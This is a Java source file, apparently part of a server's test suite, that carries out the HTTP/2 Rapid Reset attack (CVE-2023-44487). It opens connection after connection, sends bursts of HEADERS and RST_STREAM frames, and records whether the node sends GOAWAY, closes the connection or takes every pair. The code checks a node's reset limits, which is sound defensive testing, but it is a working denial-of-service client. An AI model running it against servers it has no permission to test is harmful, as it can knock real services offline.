package io.gitward.tests.limits;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * CVE-2023-44487 from one attacker: on a connection, HEADERS then RST_STREAM for stream after stream, as fast as
 * the socket takes them, until the node sends GOAWAY or closes; then the next connection. A node that limits
 * resets ends every connection after about its allowance; one that does not takes all of them and still answers a
 * PING afterwards. Bounded by the number of pairs per connection and by the time given.
 */
final class RapidReset {
    /** Pairs written between flushes. */
    private static final int BATCH = 10;
    private static final Duration IO_TIMEOUT = Duration.ofSeconds(5);

    private final Endpoint endpoint;
    private final Map<String, String> requestHeaders;
    private final int pairsPerConnection;
    private final Tally tally = new Tally();

    /**
     * @param requestHeaders     the request each HEADERS frame opens (pseudo-headers first)
     * @param pairsPerConnection HEADERS+RST_STREAM pairs at most on one connection
     */
    RapidReset(Endpoint endpoint, Map<String, String> requestHeaders, int pairsPerConnection) {
        this.endpoint = endpoint;
        this.requestHeaders = new LinkedHashMap<>(requestHeaders);
        this.pairsPerConnection = pairsPerConnection;
    }

    /** What happened on the attacker's side over all its connections. */
    static final class Tally {
        final AtomicInteger connections = new AtomicInteger();
        /** TLS handshake or TCP connect refused: the attack never reached HTTP/2. */
        final AtomicInteger refused = new AtomicInteger();
        final AtomicLong resetsSent = new AtomicLong();
        /** GOAWAY ENHANCE_YOUR_CALM: the node's rapid-reset limit. */
        final AtomicInteger calmDown = new AtomicInteger();
        final AtomicInteger otherGoAway = new AtomicInteger();
        final AtomicInteger closedWithoutGoAway = new AtomicInteger();
        /** Took every pair and still answered a PING: nothing limited it. */
        final AtomicInteger tookEverything = new AtomicInteger();
        /** Neither answered the PING nor ended the connection in time: a stalled node. */
        final AtomicInteger unanswered = new AtomicInteger();
        volatile String lastGoAway = "";

        String describe() {
            return "connections=" + connections + " refused=" + refused + " resets=" + resetsSent + " goaway-calm="
                    + calmDown + " goaway-other=" + otherGoAway + " closed=" + closedWithoutGoAway + " took-everything="
                    + tookEverything + " unanswered=" + unanswered
                    + (lastGoAway.isEmpty() ? "" : " last-goaway='" + lastGoAway + "'");
        }
    }

    Endpoint endpoint() {
        return endpoint;
    }

    Tally tally() {
        return tally;
    }

    /**
     * Attacks connection after connection until {@code until} (System.nanoTime), starting at most
     * {@code perSecond} connections a second; each connection's pairs go as fast as the socket takes them.
     */
    void run(long until, double perSecond) throws InterruptedException {
        long interval = (long) (1e9 / perSecond);
        long next = System.nanoTime();
        while (System.nanoTime() < until && !Thread.currentThread().isInterrupted()) {
            oneConnection();
            next += interval;
            long wait = Math.min(next, until) - System.nanoTime();
            if (wait > 0) {
                Thread.sleep(wait / 1_000_000, (int) (wait % 1_000_000));
            } else {
                next = System.nanoTime();
            }
        }
    }

    /** One connection's worth: pairs until the node stops it or the allowance of pairs is spent. */
    void oneConnection() throws InterruptedException {
        tally.connections.incrementAndGet();
        RawHttp2Connection connection;
        try {
            connection = RawHttp2Connection.open(endpoint, IO_TIMEOUT);
        } catch (IOException e) {
            tally.refused.incrementAndGet();
            return;
        }
        try (connection) {
            byte[] block = Http2Frames.headerBlock(requestHeaders);
            int stream = 1;
            for (int sent = 0; sent < pairsPerConnection && !connection.sawEnd(); sent += BATCH) {
                ByteArrayOutputStream frames = new ByteArrayOutputStream();
                for (int i = 0; i < BATCH; i++, stream += 2) {
                    Http2Frames.headers(frames, stream, block, false);
                    Http2Frames.rstStream(frames, stream, Http2Frames.CANCEL);
                }
                try {
                    connection.write(frames);
                } catch (IOException e) {
                    break;
                }
                tally.resetsSent.addAndGet(BATCH);
            }
            if (!connection.sawEnd() && connection.pingAnswered(IO_TIMEOUT) && !connection.sawEnd()) {
                tally.tookEverything.incrementAndGet();
                return;
            }
            connection.awaitEnd(IO_TIMEOUT);
            Http2Frames.Frame goAway = connection.goAway();
            if (goAway == null && connection.closedByPeer()) {
                // The node may close right after its GOAWAY while pairs are still arriving: the kernel then resets
                // the connection, and a GOAWAY not yet read is lost.
                tally.closedWithoutGoAway.incrementAndGet();
            } else if (goAway == null) {
                tally.unanswered.incrementAndGet();
            } else if (goAway.goAwayError() == Http2Frames.ENHANCE_YOUR_CALM) {
                tally.calmDown.incrementAndGet();
                tally.lastGoAway = goAway.goAwayDebug();
            } else {
                tally.otherGoAway.incrementAndGet();
                tally.lastGoAway = "error " + goAway.goAwayError() + " " + goAway.goAwayDebug();
            }
        }
    }

    /** A gRPC request's headers for {@code path} (e.g. {@code /grpc.health.v1.Health/Check}). */
    static Map<String, String> grpcRequest(Endpoint endpoint, String path) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put(":method", "POST");
        headers.put(":scheme", endpoint.tls() ? "https" : "http");
        headers.put(":path", path);
        headers.put(":authority", endpoint.address().getHostString() + ":" + endpoint.address().getPort());
        headers.put("content-type", "application/grpc");
        headers.put("te", "trailers");
        return headers;
    }

    /** An HTTP GET's headers for {@code path}. */
    static Map<String, String> httpGet(Endpoint endpoint, String path) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put(":method", "GET");
        headers.put(":scheme", endpoint.tls() ? "https" : "http");
        headers.put(":path", path);
        headers.put(":authority", endpoint.address().getHostString() + ":" + endpoint.address().getPort());
        return headers;
    }
}
